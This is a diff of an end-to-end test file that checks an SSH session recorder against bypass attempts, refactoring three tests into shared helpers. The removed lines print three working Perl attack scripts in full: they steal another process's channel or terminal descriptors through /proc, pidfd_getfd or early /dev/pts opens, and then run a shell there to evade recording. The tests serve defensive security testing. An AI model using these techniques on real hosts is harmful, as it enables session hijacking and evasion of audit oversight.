@@ -69,6 +69,43 @@ async function withMaster(body: (control: string) => Promise<void>): Promise<voi
   }
 }
 
+/**
+ * The attack of the three channel tests: a ControlMaster connection, one of the programs in
+ * test/e2e/thieves started in its session by a first channel, then a second channel (the shell
+ * line `client` gives, with the control path) that the program waits for. Gives what the client
+ * got and the session's recording. (The program's own log dies with the container, and a later
+ * ssh -S would fall back to a new connection, whose session and recording would be another one.)
+ */
+async function attack(
+  program: string,
+  client: (control: string) => string,
+): Promise<{ client: { stdout: string; stderr: string; status: number | null }; session: string; status: string; body: string }> {
+  const before = (await recordings()).map((o) => o.key);
+  let got = { stdout: '', stderr: '', status: 0 as number | null };
+  await withMaster(async (control) => {
+    await startThief(control, program);
+    got = await host.run(['bash', '-c', client(control)], { timeoutMs: 60_000 });
+  });
+  log(`client: ${JSON.stringify(got)}`);
+  const recording = await newRecording(before);
+  log(`recording:\n${recording.body}`);
+  return { client: got, ...recording };
+}
+
+/**
+ * Starts one of the attack programs in test/e2e/thieves in the background, as the user, in the
+ * session of the connection behind `control`, and gives it a second to get going.
+ */
+async function startThief(control: string, program: string): Promise<void> {
+  const text = fs.readFileSync(path.join(__dirname, 'thieves', program));
+  const started = await host.run([
+    'bash',
+    '-c',
+    `printf '%s' ${shellQuote(text.toString('base64'))} | ${sshCommand(['-S', control], `base64 -d >/tmp/${program}; setsid perl /tmp/${program} </dev/null >/dev/null 2>&1 & sleep 1; echo started`)}`,
+  ]);
+  expect(started.stdout).toContain('started');
+}
+
 beforeAll(async () => {
   ({ host, key } = await startRecordedHost(BUCKET, PORT));
 }, 600_000);
@@ -258,85 +295,33 @@ describe('session recording bypasses', () => {
     // dumpable again (sftp-server makes itself non-dumpable; scp does not): a process of the same
     // user could take them (/proc/<pid>/fd, or pidfd_getfd), stop it and run a shell there. Such a
     // process needs an earlier channel of the same connection (the container is the connection's).
-    const thief =
-      "# Waits for the user's sftp-server, takes its channel descriptors, stops it, and runs a shell on them.\nuse strict;\nuse warnings;\nopen(my $log, '>>', '/tmp/thief.log') or die;\nselect((select($log), $| = 1)[0]);\nmy $deadline = time + 60;\nwhile (time < $deadline) {\n  opendir(my $proc, '/proc') or die;\n  for my $pid (grep { /^\\d+$/ && $_ != $$ } readdir $proc) {\n    open(my $c, '<', \"/proc/$pid/cmdline\") or next;\n    my $cmd = do { local $/; <$c> } // '';\n    next unless $cmd =~ m{^/usr/bin/scp\\0-t\\0};\n    print $log \"sftp-server $pid: fd0 \", readlink(\"/proc/$pid/fd/0\") // \"?$!\", \" fd1 \", readlink(\"/proc/$pid/fd/1\") // \"?$!\", \"\\n\";\n    my ($in, $out);\n    if (open($in, '<&=', 0) && 0) { }\n    unless (open($in, '<', \"/proc/$pid/fd/0\") && open($out, '>', \"/proc/$pid/fd/1\")) {\n      print $log \"open via /proc: $!; trying pidfd_getfd\\n\";\n      my $pidfd = syscall(434, $pid, 0);\n      print $log \"pidfd_open: $pidfd $!\\n\";\n      my $fd0 = syscall(438, $pidfd, 0, 0);\n      my $fd1 = syscall(438, $pidfd, 1, 0);\n      print $log \"pidfd_getfd: $fd0 $fd1 $!\\n\";\n      exit 1 if $fd0 < 0 || $fd1 < 0;\n      open($in, '<&=', $fd0) or die;\n      open($out, '>&=', $fd1) or die;\n    }\n    kill 'STOP', $pid;\n    print $log \"stolen, sftp-server stopped\\n\";\n    my $child = fork;\n    if (!$child) {\n      open(STDIN, '<&', $in) or die;\n      open(STDOUT, '>&', $out) or die;\n      open(STDERR, '>&', $out) or die;\n      exec '/bin/bash';\n    }\n    waitpid($child, 0);\n    print $log \"shell ended\\n\";\n    kill 'CONT', $pid;\n    kill 'TERM', $pid;\n    exit 0;\n  }\n  select(undef, undef, undef, 0.01);\n}\n";
-    const before = (await recordings()).map((o) => o.key);
-    let client = { stdout: '', stderr: '', status: 0 };
-    await withMaster(async (control) => {
-      const started = await host.run([
-        'bash',
-        '-c',
-        `printf '%s' ${shellQuote(Buffer.from(thief).toString('base64'))} | ${sshCommand(['-S', control], 'base64 -d >/tmp/t.pl; setsid perl /tmp/t.pl </dev/null >/dev/null 2>&1 & echo started')}`,
-      ]);
-      expect(started.stdout).toContain('started');
-      client = await host.run(
-        ['bash', '-c', `{ sleep 3; echo 'echo STOLEN-$((4*4)); id -un'; sleep 3; } | ${sshCommand(['-S', control], 'scp -t /tmp/x')}`],
-        { timeoutMs: 60_000 },
-      );
-    });
-    // (The thief's log died with the container: a later ssh -S would fall back to a new connection,
-    // whose session and recording would be another one.)
-    log(`client: ${JSON.stringify(client)}`);
-    const { session, status, body } = await newRecording(before);
-    log(`recording:\n${body}`);
+    const { client, session, status, body } = await attack(
+      'scp-channel.pl',
+      (control) => `{ sleep 3; echo 'echo STOLEN-$((4*4)); id -un'; sleep 3; } | ${sshCommand(['-S', control], 'scp -t /tmp/x')}`,
+    );
     expect(client.stdout).not.toContain('STOLEN-16');
     expect(body).not.toContain('STOLEN-16');
     expect(status).toBe('6');
     expect(endedAtSecondChannel(session)).toBe(true);
   });
   test("a plain user's non-dumpable process cannot use the next channel's terminal: the second session channel ends the session", async () => {
-    const thief =
-      '# Non-dumpable (the recorder, running as the same user, then cannot list its descriptors), it\n# opens every new terminal of the container as soon as it appears, before the recorder makes it\n# exclusive, and later writes a marker to each.\nuse strict;\nuse warnings;\nuse Fcntl qw(O_RDWR O_NOCTTY O_NONBLOCK);\nsyscall(157, 4, 0, 0, 0, 0) == 0 or die "prctl: $!";\nopen(my $log, \'>>\', \'/tmp/thief2.log\') or die;\nselect((select($log), $| = 1)[0]);\nmy %seen;\n{ opendir(my $d, \'/dev/pts\') or die; $seen{$_} = 1 for grep { /^\\d+$/ } readdir $d; }\nprint $log "ptys before: ", join(\' \', sort keys %seen), "\\n";\nmy @held;\nmy $deadline = time + 60;\nwhile (time < $deadline && @held < 2) {\n  opendir(my $d, \'/dev/pts\') or die;\n  for my $n (grep { /^\\d+$/ && !$seen{$_} } readdir $d) {\n    if (sysopen(my $fh, "/dev/pts/$n", O_RDWR | O_NOCTTY | O_NONBLOCK)) {\n      $seen{$n} = 1;\n      push @held, [$n, $fh];\n      print $log "opened /dev/pts/$n\\n";\n    } else {\n      print $log "open /dev/pts/$n: $!\\n";\n      $seen{$n} = 1 if $!{EBUSY};\n    }\n  }\n  select(undef, undef, undef, 0.001);\n}\nsleep 3;\nfor (@held) {\n  my ($n, $fh) = @$_;\n  my $w = syswrite($fh, "\\r\\nHELD-PTS-$n-" . (6 * 7) . "\\r\\n");\n  print $log "wrote to /dev/pts/$n: ", ($w // "error $!"), "\\n";\n}\n';
-    const before = (await recordings()).map((o) => o.key);
-    let client = { stdout: '', stderr: '', status: 0 };
-    await withMaster(async (control) => {
-      const started = await host.run([
-        'bash',
-        '-c',
-        `printf '%s' ${shellQuote(Buffer.from(thief).toString('base64'))} | ${sshCommand(['-S', control], 'base64 -d >/tmp/t2.pl; setsid perl /tmp/t2.pl </dev/null >/dev/null 2>&1 & sleep 1; echo started')}`,
-      ]);
-      expect(started.stdout).toContain('started');
-      client = await host.run(['bash', '-c', `{ sleep 7; echo exit; sleep 2; } | ${sshCommand(['-S', control, '-tt'])}`], {
-        timeoutMs: 60_000,
-      });
-    });
-    // (The thief's log died with the container: a later ssh -S would fall back to a new connection,
-    // whose session and recording would be another one.)
-    log(`client: ${JSON.stringify(client)}`);
-    const { session, status, body } = await newRecording(before);
-    log(`recording:\n${body}`);
+    const { client, session, status, body } = await attack(
+      'new-ptys.pl',
+      (control) => `{ sleep 7; echo exit; sleep 2; } | ${sshCommand(['-S', control, '-tt'])}`,
+    );
     // it may open the terminal sshd allocated (before "Starting session"), but is killed with the
     // whole container before it writes a thing
     expect(client.stdout).not.toMatch(/HELD-PTS-(\d+)-42/);
+    expect(body).not.toMatch(/HELD-PTS-(\d+)-42/);
     expect(status).toBe('6');
     expect(endedAtSecondChannel(session)).toBe(true);
   });
   test('sftp asked with a terminal (ssh -t -s host sftp) after another channel: the session ends before an earlier process can run a shell on it', async () => {
-    const thief =
-      "# Waits for a terminal to appear (a file transfer asked with ssh -t: the recorder leaves it\n# as it is), opens it at leisure, stops the transfer server and runs a shell on the terminal.\nuse strict;\nuse warnings;\nuse Fcntl qw(O_RDWR O_NOCTTY);\nuse POSIX ();\nopen(my $log, '>>', '/tmp/thief3.log') or die;\nselect((select($log), $| = 1)[0]);\nmy $deadline = time + 60;\nwhile (time < $deadline) {\n  opendir(my $d, '/dev/pts') or die;\n  my ($n) = grep { /^\\d+$/ } readdir $d;\n  if (defined $n) {\n    sleep 1;\n    sysopen(my $tty, \"/dev/pts/$n\", O_RDWR | O_NOCTTY) or do { print $log \"open /dev/pts/$n: $!\\n\"; exit 1 };\n    print $log \"opened /dev/pts/$n\\n\";\n    my @stopped;\n    opendir(my $proc, '/proc') or die;\n    for my $pid (grep { /^\\d+$/ } readdir $proc) {\n      open(my $c, '<', \"/proc/$pid/cmdline\") or next;\n      my $cmd = do { local $/; <$c> } // '';\n      if ($cmd =~ m{^/usr/lib/openssh/sftp-server\\0?}) { kill 'STOP', $pid; push @stopped, $pid; print $log \"stopped $pid\\n\"; }\n    }\n    my $child = fork;\n    if (!$child) {\n      POSIX::setsid();\n      open(STDIN, '<&', $tty) or die;\n      open(STDOUT, '>&', $tty) or die;\n      open(STDERR, '>&', $tty) or die;\n      exec '/bin/bash', '-i';\n    }\n    waitpid($child, 0);\n    print $log \"shell ended\\n\";\n    kill 'CONT', @stopped;\n    kill 'TERM', @stopped;\n    exit 0;\n  }\n  select(undef, undef, undef, 0.05);\n}\n";
-    const before = (await recordings()).map((o) => o.key);
-    let client = { stdout: '', stderr: '', status: 0 };
-    await withMaster(async (control) => {
-      const started = await host.run([
-        'bash',
-        '-c',
-        `printf '%s' ${shellQuote(Buffer.from(thief).toString('base64'))} | ${sshCommand(['-S', control], 'base64 -d >/tmp/t3.pl; setsid perl /tmp/t3.pl </dev/null >/dev/null 2>&1 & sleep 1; echo started')}`,
-      ]);
-      expect(started.stdout).toContain('started');
-      client = await host.run(
-        [
-          'bash',
-          '-c',
-          `{ sleep 4; echo 'echo PTYSFTP-$((7*7)); sudo id -u'; sleep 3; echo exit; sleep 2; } | ${sshCommand(['-S', control, '-tt', '-s'], 'sftp')}`,
-        ],
-        { timeoutMs: 60_000 },
-      );
-    });
-    // (The thief's log died with the container: a later ssh -S would fall back to a new connection,
-    // whose session and recording would be another one.)
-    log(`client: ${JSON.stringify(client)}`);
-    const { session, status, body } = await newRecording(before);
-    log(`recording:\n${body}`);
+    const { client, session, status, body } = await attack(
+      'sftp-pty.pl',
+      (control) =>
+        `{ sleep 4; echo 'echo PTYSFTP-$((7*7)); sudo id -u'; sleep 3; echo exit; sleep 2; } | ${sshCommand(['-S', control, '-tt', '-s'], 'sftp')}`,
+    );
     expect(client.stdout).not.toContain('PTYSFTP-49');
     expect(body).not.toContain('PTYSFTP-49');
     expect(status).toBe('6');
